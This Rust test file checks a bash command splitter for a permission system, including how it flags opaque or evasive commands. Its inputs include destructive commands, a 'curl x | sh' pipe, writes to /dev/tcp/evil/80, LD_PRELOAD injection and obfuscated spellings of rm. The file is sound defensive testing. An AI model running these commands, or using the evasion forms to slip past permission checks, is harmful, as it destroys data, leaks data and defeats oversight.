//! The 0.5.x splitting table (§7.5) where it is safe, and what changed where it was not.

use super::split_bash;

fn params(cmd: &str) -> Vec<String> {
    split_bash(cmd).params
}

fn clean(cmd: &str) -> Vec<String> {
    let a = split_bash(cmd);
    assert!(
        a.opaque.is_empty(),
        "{cmd:?} unexpectedly opaque: {:?}",
        a.opaque
    );
    a.params
}

fn is_opaque(cmd: &str) -> bool {
    !split_bash(cmd).opaque.is_empty()
}

#[test]
fn baseline_compound_commands() {
    assert_eq!(clean("echo hi && rm -rf /"), ["echo hi", "rm -rf /"]);
    assert_eq!(clean("echo hi; ls"), ["echo hi", "ls"]);
    assert_eq!(clean("ls || rm -rf /"), ["ls", "rm -rf /"]);
    assert_eq!(
        clean("cat a | grep b | wc -l"),
        ["cat a", "grep b", "wc -l"]
    );
    assert_eq!(clean("(cd /tmp && ls)"), ["cd /tmp", "ls"]);
    assert_eq!(clean("{ echo a; echo b; }"), ["echo a", "echo b"]);
    assert_eq!(clean("if true; then rm x; fi"), ["true", "rm x"]);
    assert_eq!(clean("for i in 1 2; do echo $i; done"), ["echo $i"]);
    assert_eq!(clean("f() { rm -rf /; }"), ["rm -rf /"]);
    assert_eq!(clean("ls &"), ["ls"]);
    assert_eq!(clean("! ls"), ["ls"]);
    assert_eq!(clean("FOO=bar ls"), ["FOO=bar ls"]);
    assert_eq!(clean("cat < /etc/passwd"), ["cat"]);
    assert_eq!(
        clean("git log --oneline | head -5 2>&1"),
        ["git log --oneline", "head -5"]
    );
    // The statement text as 0.5.x emitted it; an interpreter reading stdin is opaque now.
    assert_eq!(
        params("python3 << 'EOF'\nprint(1)\nEOF"),
        ["python3 << 'EOF'\nprint(1)\nEOF"]
    );
    assert!(is_opaque("python3 << 'EOF'\nprint(1)\nEOF"));
    assert_eq!(clean("cat <<< 'hello'"), ["cat <<< 'hello'"]);
    assert_eq!(clean(""), [""]);
    assert_eq!(clean("ls\nrm x"), ["ls", "rm x"]);
    assert_eq!(
        clean("while read l; do echo $l; done < f"),
        ["read l", "echo $l"]
    );
    assert_eq!(clean("case $x in a) rm x;; esac"), ["rm x"]);
}

#[test]
fn heredoc_keeps_the_statement_text() {
    assert_eq!(
        params("cat << 'EOF'\nhello\nEOF"),
        ["cat << 'EOF'\nhello\nEOF"]
    );
}

#[test]
fn substitutions_are_opaque() {
    for cmd in [
        "echo $(rm -rf /)",
        "echo `whoami`",
        "diff <(ls a) <(ls b)",
        "$(rm -rf /)",
        "FOO=$(rm -rf /)",
        "echo \"$(id)\"",
        "cat <<EOF\n$(id)\nEOF",
        "cat <<EOF\n`id`\nEOF",
        "ls > >(sh)",
        "echo ${x:-$(id)}",
        "cat <<< \"$(id)\"",
    ] {
        assert!(is_opaque(cmd), "{cmd:?}");
    }
    // Quoted: literal text, not substitutions.
    assert_eq!(clean("echo '$(id)' '`x`'"), ["echo '$(id)' '`x`'"]);
    assert_eq!(clean("cat <<'EOF'\n$(id) `x`\nEOF").len(), 1);
}

#[test]
fn writes_become_params() {
    assert_eq!(clean("echo hi > /tmp/f"), ["echo hi", "> /tmp/f"]);
    assert_eq!(clean("echo hi >> ~/.bashrc"), ["echo hi", "> ~/.bashrc"]);
    assert_eq!(clean("echo hi &> out.log"), ["echo hi", "> out.log"]);
    assert_eq!(clean("echo hi 2> err"), ["echo hi", "> err"]);
    assert_eq!(clean("echo hi >| f"), ["echo hi", "> f"]);
    assert_eq!(clean("echo hi > /tmp/../etc/x"), ["echo hi", "> /etc/x"]);
    assert_eq!(clean(">f echo hi"), ["echo hi", "> f"]);
    assert_eq!(clean("> f"), ["> f"]);
    assert_eq!(clean("ls 2>&1 >/dev/null 2>/dev/null"), ["ls"]);
    assert_eq!(clean("ls >&2"), ["ls"]);
    assert_eq!(clean("{ ls; } > out"), ["ls", "> out"]);
    assert!(is_opaque("echo hi > $F"));
    assert!(is_opaque("echo hi > ../../x"));
    assert!(is_opaque("cat < /dev/tcp/evil/80"));
    assert!(is_opaque("echo x > /dev/tcp/evil/80"));
}

#[test]
fn words_after_a_redirect_belong_to_the_command() {
    // bash runs `find . -delete` here; tree-sitter hangs `-delete` under the redirect.
    assert!(is_opaque("find . > /dev/null -delete"));
    assert_eq!(clean("echo hi > /dev/null there"), ["echo hi there"]);
}

#[test]
fn heredoc_continuations_are_split() {
    let a = split_bash("cat <<EOF && rm x\nhi\nEOF");
    assert!(a.params.contains(&"rm x".to_string()), "{a:?}");
    let a = split_bash("cat <<'EOF' | sh\nrm -rf /\nEOF");
    assert!(!a.opaque.is_empty(), "{a:?}");
}

#[test]
fn wrappers_add_the_inner_command() {
    assert_eq!(clean("sudo rm x"), ["sudo rm x", "rm x"]);
    assert_eq!(
        clean("sudo -u root -E rm x"),
        ["sudo -u root -E rm x", "rm x"]
    );
    assert_eq!(clean("env A=1 ls"), ["env A=1 ls", "A=1 ls"]);
    assert_eq!(
        clean("timeout -s KILL 5 make test"),
        ["timeout -s KILL 5 make test", "make test"]
    );
    assert_eq!(
        clean("nice -n 5 ionice -c3 ls"),
        ["nice -n 5 ionice -c3 ls", "ionice -c3 ls", "ls"]
    );
    assert_eq!(clean("nohup ./run.sh"), ["nohup ./run.sh", "./run.sh"]);
    assert_eq!(clean("command -v git"), ["command -v git"]);
    assert_eq!(clean("xargs rm"), ["xargs rm", "rm …"]);
    assert_eq!(
        clean("xargs -I{} cp {} /tmp"),
        ["xargs -I{} cp {} /tmp", "cp {} /tmp"]
    );
    assert_eq!(
        clean("find . -name '*.rs' -exec grep -l foo {} \\;"),
        [
            "find . -name '*.rs' -exec grep -l foo {} \\;",
            "grep -l foo {}"
        ]
    );
    assert_eq!(
        clean("bash -c 'ls; rm x'"),
        ["bash -c 'ls; rm x'", "ls", "rm x"]
    );
    assert_eq!(clean("bash -lc ls"), ["bash -lc ls", "ls"]);
    assert_eq!(clean("eval 'ls -la'"), ["eval 'ls -la'", "ls -la"]);
    assert_eq!(clean("watch -n 1 ls -la"), ["watch -n 1 ls -la", "ls -la"]);
    assert_eq!(clean("ssh host rm x"), ["ssh host rm x", "rm x"]);
    assert_eq!(
        clean("stdbuf -oL tail -f log"),
        ["stdbuf -oL tail -f log", "tail -f log"]
    );
}

#[test]
fn opaque_programs() {
    for cmd in [
        "sudo -s",
        "sudo -i rm x",
        "env -S 'rm x'",
        "bash",
        "curl x | sh",
        "bash -s",
        "python3 -c 'print(1)'",
        "python3",
        "perl -e 1",
        "node -e 1",
        "ruby -e 1",
        "python3 <<EOF\nprint(1)\nEOF",
        "source x.sh",
        ". x.sh",
        "trap 'rm x' EXIT",
        "find . -delete",
        "git -c alias.x='!rm' x",
        "git clone --upload-pack=x y",
        "awk 'BEGIN{system(\"id\")}'",
        "sed 's/x/id/e' f",
        "\\rm x",
        "'rm' x",
        "r''m x",
        "\"r\"m x",
        "$'\\x72m' x",
        "$CMD x",
        "ls/../../bin/rm x",
        "xargs sh",
        "echo $((x+1))",
        "[[ $x -eq 1 ]]",
        "echo ${!x}",
        "echo ${x@P}",
        "echo ${a[i]}",
        "PATH=/tmp:$PATH ls",
        "export LD_PRELOAD=/tmp/x.so",
        "find . -ex\\\nec rm {} \\;",
    ] {
        assert!(is_opaque(cmd), "{cmd:?} → {:?}", split_bash(cmd));
    }
}

#[test]
fn interpreters_with_script_files_are_plain() {
    assert_eq!(
        clean("python3 script.py --flag"),
        ["python3 script.py --flag"]
    );
    assert_eq!(clean("python3 -m pytest -x"), ["python3 -m pytest -x"]);
    assert_eq!(clean("node --version"), ["node --version"]);
    assert_eq!(clean("bash ./build.sh"), ["bash ./build.sh"]);
}

#[test]
fn hostile_sizes_and_nesting_do_not_crash() {
    let deep_subshells = format!("{}ls{}", "(".repeat(20_000), ")".repeat(20_000));
    assert!(is_opaque(&deep_subshells));
    let deep_expansions = format!("echo {}x{}", "${x:-".repeat(5_000), "}".repeat(5_000));
    assert!(is_opaque(&deep_expansions));
    let deep_strings = format!("echo {}", "\"$(".repeat(3_000));
    assert!(is_opaque(&deep_strings));
    let braces = format!("echo {}", "{".repeat(200_000));
    let _ = split_bash(&braces);
    let many = "echo $(x) ".repeat(10_000);
    let a = split_bash(&many);
    assert!(!a.opaque.is_empty() && a.opaque.len() <= 16);
    let wrappers = format!("{}ls", "sudo ".repeat(500));
    assert!(is_opaque(&wrappers));
    let long_heredoc = format!("cat <<'EOF'\n{}\nEOF", "x `y` $(z)\n".repeat(20_000));
    assert!(!is_opaque(&long_heredoc));
}

#[test]
fn random_input_never_panics() {
    // A deterministic generator over shell-significant characters.
    const ALPHABET: &[&str] = &[
        " ", "\n", "\t", "\\", "'", "\"", "`", "$", "(", ")", "{", "}", "[", "]", "<", ">", "|",
        "&", ";", "#", "=", "*", "?", "!", "~", "-", ",", ".", "/", "a", "ls", "rm", "x", "0", "1",
        "<<", "EOF", "$(", "${", "$((", "<(", ">(", "-c", "-exec", "sudo", "bash", "find", "xargs",
        "git", "sed", "awk", "é", "\r",
    ];
    let mut state: u64 = 0x2545_f491_4f6c_dd1d;
    let mut next = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state
    };
    for _ in 0..3_000 {
        let len = (next() % 40) as usize;
        let mut s = String::new();
        for _ in 0..len {
            s.push_str(ALPHABET[(next() % ALPHABET.len() as u64) as usize]);
        }
        let a = split_bash(&s);
        assert!(!a.params.is_empty(), "{s:?}");
    }
}

/// The tables of docs/permissions.md.
#[test]
fn documented_examples() {
    let rows: &[(&str, &[&str])] = &[
        ("git status && npm test", &["git status", "npm test"]),
        ("(cd /srv && ls)", &["cd /srv", "ls"]),
        ("{ ls; pwd; }", &["ls", "pwd"]),
        ("if test -f x; then cat x; fi", &["test -f x", "cat x"]),
        ("for f in *.rs; do wc -l \"$f\"; done", &["wc -l \"$f\""]),
        ("FOO=bar make", &["FOO=bar make"]),
        ("x=1", &["x=1"]),
        ("[[ -f x ]] && cat x", &["cat x"]),
        ("# just a comment", &["# just a comment"]),
        ("echo hi > /tmp/out", &["echo hi", "> /tmp/out"]),
        ("npm test 2>> ~/test.log", &["npm test", "> ~/test.log"]),
        ("echo x > /tmp/../etc/passwd", &["echo x", "> /etc/passwd"]),
        ("make 2>&1 | tee build.log", &["make", "tee build.log"]),
        ("sudo ls -la /root", &["sudo ls -la /root", "ls -la /root"]),
        ("timeout 60 npm test", &["timeout 60 npm test", "npm test"]),
        ("env -u DEBUG make", &["env -u DEBUG make", "make"]),
        ("env CI=1 make", &["env CI=1 make", "CI=1 make"]),
        (
            "find . -type f | xargs grep foo",
            &["find . -type f", "xargs grep foo", "grep foo …"],
        ),
        (
            "xargs -I{} cp {} /backup",
            &["xargs -I{} cp {} /backup", "cp {} /backup"],
        ),
        (
            "bash -c 'make && make install'",
            &["bash -c 'make && make install'", "make", "make install"],
        ),
        ("watch -n 5 'ls -la'", &["watch -n 5 'ls -la'", "ls -la"]),
        ("ssh build-host make", &["ssh build-host make", "make"]),
        (
            "find . -fprint /tmp/list",
            &["find . -fprint /tmp/list", "> /tmp/list"],
        ),
    ];
    for (cmd, want) in rows {
        assert_eq!(clean(cmd), *want, "{cmd:?}");
    }
    for quoted in [
        "echo '$(id)'",
        "grep -e '$(' file",
        "cat <<'EOF'\n$(id)\nEOF",
    ] {
        assert!(!is_opaque(quoted), "{quoted:?}");
    }
}
